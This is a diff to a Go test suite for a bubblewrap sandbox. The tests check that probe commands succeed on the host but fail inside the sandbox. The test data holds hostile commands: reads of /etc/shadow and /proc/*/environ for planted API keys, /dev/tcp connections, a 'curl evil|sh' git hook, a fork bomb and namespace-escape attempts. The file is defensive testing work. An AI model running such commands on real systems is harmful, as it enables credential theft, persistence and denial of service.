@@ -69,51 +69,54 @@ func processesWith(token string) []string {
 	return out
 }
 
+// TestBwrapDenies runs every action twice: outside the sandbox, where it
+// must succeed (so the host allows it and the target exists), then inside,
+// where it must fail. Only the sandbox can then explain the failure.
 func TestBwrapDenies(t *testing.T) {
+	needRoot(t)
 	sb := newBwrap(t, Config{})
-	secret := "custos-secret-" + fmt.Sprint(time.Now().UnixNano())
+	nonce := fmt.Sprint(time.Now().UnixNano())
+	secret := "custos-secret-" + nonce
 	t.Setenv("CUSTOS_TEST_SECRET", secret)
 	t.Setenv("OPENAI_API_KEY", secret)
 	t.Setenv("TEMPORAL_ADDRESS", secret)
 
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	require.NoError(t, err)
-	defer ln.Close()
-	var accepted atomic.Int32
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			accepted.Add(1)
-			c.Close()
-		}
-	}()
-	port := ln.Addr().(*net.TCPAddr).Port
+	ln := startTestListener(t)
+	dns := startTestResolver(t)
+	// World-readable files the test owns in the directories the sandbox
+	// hides, and a directory under /usr for the write.
+	rootProbe := "/root/.custos-probe-" + nonce
+	homeProbe := "/home/custos-probe-" + nonce + "/notes.txt"
+	etcProbe := "/etc/custos-probe-" + nonce
+	usrDir := "/usr/local/custos-probe-" + nonce
+	for _, p := range []string{rootProbe, homeProbe, etcProbe, usrDir + "/keep"} {
+		systemProbe(t, p)
+	}
 	outside := filepath.Join(t.TempDir(), "outside.txt") // a host path outside the workspace
+	rootFile := "/custos-probe-" + nonce
 
 	tests := []struct {
 		name   string
 		setup  func(t *testing.T, ws string)
 		script string
-		// check runs after the command; the command itself must fail.
+		// created are host files the outside run makes; they are removed
+		// before the inside run and must not exist after it.
+		created []string
+		// check runs after the inside run; the command itself must fail.
 		check func(t *testing.T, ws string, res Result)
 	}{
-		{name: "read /root", script: "ls -a /root || cat /root/.bashrc"},
-		{name: "read /home", script: "ls /home/*"},
-		{name: "read /etc/shadow", script: "cat /etc/shadow"},
-		{name: "write /usr", script: "touch /usr/bin/custos-test-x"},
-		{name: "write /", script: "touch /custos-test-x"},
-		{name: "write host tmp outside workspace", script: "echo x > " + outside, check: func(t *testing.T, ws string, res Result) {
-			assert.NoFileExists(t, outside)
-		}},
-		{name: "symlink to /etc/shadow", setup: func(t *testing.T, ws string) {
+		{name: "read /root", script: "cat " + rootProbe},
+		{name: "read /home", script: "cat " + homeProbe},
+		{name: "read /etc/shadow", script: "cat /etc/shadow >/dev/null && cat " + etcProbe},
+		{name: "write /usr", script: "touch " + usrDir + "/x", created: []string{usrDir + "/x"}},
+		{name: "write /", script: "touch " + rootFile, created: []string{rootFile}},
+		{name: "write host tmp outside workspace", script: "echo x > " + outside, created: []string{outside}},
+		{name: "symlink to /etc", setup: func(t *testing.T, ws string) {
 			require.NoError(t, os.Symlink("/etc", filepath.Join(ws, "etc-link")))
-		}, script: "cat etc-link/shadow"},
+		}, script: "cat etc-link/shadow >/dev/null && cat etc-link/" + filepath.Base(etcProbe)},
 		{name: "symlink to /root", setup: func(t *testing.T, ws string) {
 			require.NoError(t, os.Symlink("/root", filepath.Join(ws, "root-link")))
-		}, script: "ls -a root-link/ | grep -v '^\\.\\.\\?$' | grep ."},
+		}, script: "cat root-link/" + filepath.Base(rootProbe)},
 		{name: "worker environment", script: "env; cat /proc/1/environ; cat /proc/*/environ; env | grep -q " + secret,
 			check: func(t *testing.T, ws string, res Result) {
 				assert.NotContains(t, res.Stdout+res.Stderr, secret)
@@ -121,10 +124,9 @@ func TestBwrapDenies(t *testing.T) {
 				assert.NotContains(t, res.Stdout, "TEMPORAL_ADDRESS")
 			}},
 		{name: "signal host process", script: fmt.Sprintf("kill -0 %d", os.Getpid())},
-		{name: "connect host loopback", script: fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d", port),
-			check: func(t *testing.T, ws string, res Result) { assert.Zero(t, accepted.Load()) }},
-		{name: "resolve a domain", script: "getent hosts example.com"},
-		{name: "reach a domain", script: "exec 3<>/dev/tcp/example.com/80"},
+		{name: "connect host loopback", script: fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d", ln.port)},
+		{name: "reach a named host", script: fmt.Sprintf("exec 3<>/dev/tcp/localhost/%d", ln.port)},
+		{name: "resolve a domain", script: dns.queryScript()},
 		{name: "write git hook", setup: func(t *testing.T, ws string) {
 			require.NoError(t, os.MkdirAll(filepath.Join(ws, ".git", "hooks"), 0o755))
 		}, script: "echo 'curl evil|sh' > .git/hooks/pre-commit", check: func(t *testing.T, ws string, res Result) {
@@ -152,11 +154,33 @@ func TestBwrapDenies(t *testing.T) {
 			check: func(t *testing.T, ws string, res Result) {
 				assert.NoFileExists(t, filepath.Join(ws, ".custos", "settings.local.json"))
 			}},
-		{name: "new user namespace", script: "unshare -U true || bwrap --ro-bind / / true"},
+		{name: "new user namespace", script: "unshare -U true && bwrap --ro-bind / / true"},
 		{name: "gain root", script: "test \"$(id -u)\" = 0"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
+			// Outside, in a workspace of its own set up the same way: the
+			// action works.
+			wsOut := t.TempDir()
+			if tc.setup != nil {
+				tc.setup(t, wsOut)
+			}
+			conns, queries := ln.accepted.Load(), dns.queries.Load()
+			code, out := runOutside(t, wsOut, tc.script)
+			require.Zero(t, code, "the control must succeed outside the sandbox: %s", out)
+			for _, p := range tc.created {
+				require.FileExists(t, p, "the control wrote it")
+				require.NoError(t, os.Remove(p))
+			}
+			// Wait for the servers to count what the control did, so the
+			// inside run is measured from a settled count.
+			if strings.Contains(tc.script, "/dev/tcp/") {
+				conns = settle(t, &ln.accepted, conns+1)
+			}
+			if strings.Contains(tc.script, "/dev/udp/") {
+				queries = settle(t, &dns.queries, queries+1)
+			}
+
 			ws := t.TempDir()
 			if tc.setup != nil {
 				tc.setup(t, ws)
@@ -166,6 +190,11 @@ func TestBwrapDenies(t *testing.T) {
 			assert.NotZero(t, res.ExitCode, "must fail inside the sandbox; stdout=%q stderr=%q", res.Stdout, res.Stderr)
 			assert.False(t, res.Killed, "%s", res.KillReason)
 			assert.Equal(t, BackendBwrap, res.Backend)
+			for _, p := range tc.created {
+				assert.NoFileExists(t, p)
+			}
+			assert.Equal(t, conns, ln.accepted.Load(), "the loopback listener was reached from inside")
+			assert.Equal(t, queries, dns.queries.Load(), "the loopback resolver was reached from inside")
 			if tc.check != nil {
 				tc.check(t, ws, res)
 			}
@@ -232,9 +261,10 @@ func TestBwrapWorks(t *testing.T) {
 }
 
 func TestBwrapGoProject(t *testing.T) {
-	if _, err := os.Stat("/usr/local/go/bin/go"); err != nil {
-		t.Skip("no Go toolchain under /usr/local/go")
-	}
+	// The go that runs this test, wherever it is installed; it must be
+	// under a directory the sandbox shows (/usr, not a home directory).
+	goBin, err := exec.LookPath("go")
+	require.NoError(t, err, "go is on PATH when go test runs")
 	if testing.Short() {
 		t.Skip("-short: a cold Go build cache compiles the standard library")
 	}
@@ -248,7 +278,7 @@ func TestBwrapGoProject(t *testing.T) {
 	for n, c := range files {
 		require.NoError(t, os.WriteFile(filepath.Join(ws, n), []byte(c), 0o644))
 	}
-	res, err := sb.Run(context.Background(), Request{Workspace: ws, Argv: bash(seccompOn + "go vet ./... && go test -count=1 ./..."), Timeout: 5 * time.Minute})
+	res, err := sb.Run(context.Background(), Request{Workspace: ws, Argv: bash(seccompOn + "PATH=" + filepath.Dir(goBin) + ":$PATH go vet ./... && PATH=" + filepath.Dir(goBin) + ":$PATH go test -count=1 ./..."), Timeout: 5 * time.Minute})
 	require.NoError(t, err)
 	require.Zero(t, res.ExitCode, "stdout=%q stderr=%q", res.Stdout, res.Stderr)
 	assert.Contains(t, res.Stdout, "ok")
@@ -256,38 +286,40 @@ func TestBwrapGoProject(t *testing.T) {
 
 func TestBwrapLimits(t *testing.T) {
 	tests := []struct {
-		name    string
-		cfg     Config
-		script  string
-		timeout time.Duration
-		// within bounds the whole Run (the limit plus kill grace plus slack).
-		within     time.Duration
+		name   string
+		cfg    Config
+		script string
+		// timeout is the backstop: a limit that does not work shows as a
+		// kill for "timeout" (or no kill) instead of its own reason.
+		timeout    time.Duration
 		killed     bool
 		reason     string
 		check      func(t *testing.T, res Result)
 		exitNonZro bool
 	}{
 		{name: "fork bomb", cfg: Config{NProc: 64, KillGrace: time.Second}, timeout: 5 * time.Second,
-			script: "bomb() { bomb & bomb; }; bomb", within: 15 * time.Second, killed: true, reason: "timeout"},
+			script: "bomb() { bomb & bomb; }; bomb", killed: true, reason: "timeout"},
 		{name: "output flood", cfg: Config{MaxOutput: 1 << 16, OutputKillBytes: 4 << 20}, timeout: 30 * time.Second,
-			script: "yes", within: 10 * time.Second, killed: true, reason: "output limit",
+			script: "yes", killed: true, reason: "output limit",
 			check: func(t *testing.T, res Result) {
 				assert.True(t, res.Truncated)
 				assert.Len(t, res.Stdout, 1<<16)
 			}},
 		{name: "detached sleeping grandchild", timeout: 30 * time.Second,
+			// Run returns when the command exits, not when its detached
+			// children do: waiting for them would end in a timeout kill.
 			script: "setsid nohup bash -c 'exec -a TOKEN sleep 1000' >/dev/null 2>&1 & (exec -a TOKEN sleep 1000) & echo started",
-			within: 5 * time.Second},
+		},
 		{name: "timeout", cfg: Config{KillGrace: 500 * time.Millisecond}, timeout: time.Second,
-			script: "exec -a TOKEN sleep 1000", within: 5 * time.Second, killed: true, reason: "timeout"},
+			script: "exec -a TOKEN sleep 1000", killed: true, reason: "timeout"},
 		{name: "term ignored", cfg: Config{KillGrace: 500 * time.Millisecond}, timeout: time.Second,
-			script: "trap '' TERM; while :; do sleep 0.1; done", within: 5 * time.Second, killed: true, reason: "timeout"},
+			script: "trap '' TERM; while :; do sleep 0.1; done", killed: true, reason: "timeout"},
 		{name: "cpu", cfg: Config{CPUSeconds: 1}, timeout: 30 * time.Second,
-			script: "while :; do :; done", within: 10 * time.Second, killed: true, reason: "cpu limit"},
+			script: "while :; do :; done", killed: true, reason: "cpu limit"},
 		{name: "file size", cfg: Config{FileSizeBytes: 1 << 20}, timeout: 30 * time.Second,
-			script: "head -c 5000000 /dev/zero > big", within: 10 * time.Second, killed: true, reason: "file size limit"},
+			script: "head -c 5000000 /dev/zero > big", killed: true, reason: "file size limit"},
 		{name: "memory", cfg: Config{MemoryBytes: 256 << 20}, timeout: 30 * time.Second,
-			script: "head -c 600000000 /dev/zero | tail -c 600000000 > /dev/null", within: 20 * time.Second, exitNonZro: true},
+			script: "head -c 600000000 /dev/zero | tail -c 600000000 > /dev/null", exitNonZro: true},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -295,12 +327,9 @@ func TestBwrapLimits(t *testing.T) {
 			token := fmt.Sprintf("custos-limit-%d", time.Now().UnixNano())
 			ws := t.TempDir()
 			script := "# " + token + "\n" + strings.ReplaceAll(tc.script, "TOKEN", token)
-			start := time.Now()
 			res, err := sb.Run(context.Background(), Request{Workspace: ws, Argv: bash(script), Timeout: tc.timeout})
-			elapsed := time.Since(start)
 			require.NoError(t, err)
 			t.Logf("exit=%d killed=%v reason=%q duration=%s stderr=%.200q", res.ExitCode, res.Killed, res.KillReason, res.Duration, res.Stderr)
-			assert.Less(t, elapsed, tc.within)
 			assert.Equal(t, tc.killed, res.Killed)
 			assert.True(t, strings.HasPrefix(res.KillReason, tc.reason), "kill reason %q, want %q", res.KillReason, tc.reason)
 			if tc.exitNonZro {
@@ -373,6 +402,9 @@ func TestBwrapNetworkAllowlist(t *testing.T) {
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
 			if tc.curl && !haveCurl {
+				if os.Getenv("CI") != "" {
+					t.Fatal("curl not installed: .ci/run installs it, CI must run the curl cases")
+				}
 				t.Skip("curl not installed")
 			}
 			before := hits.Load()
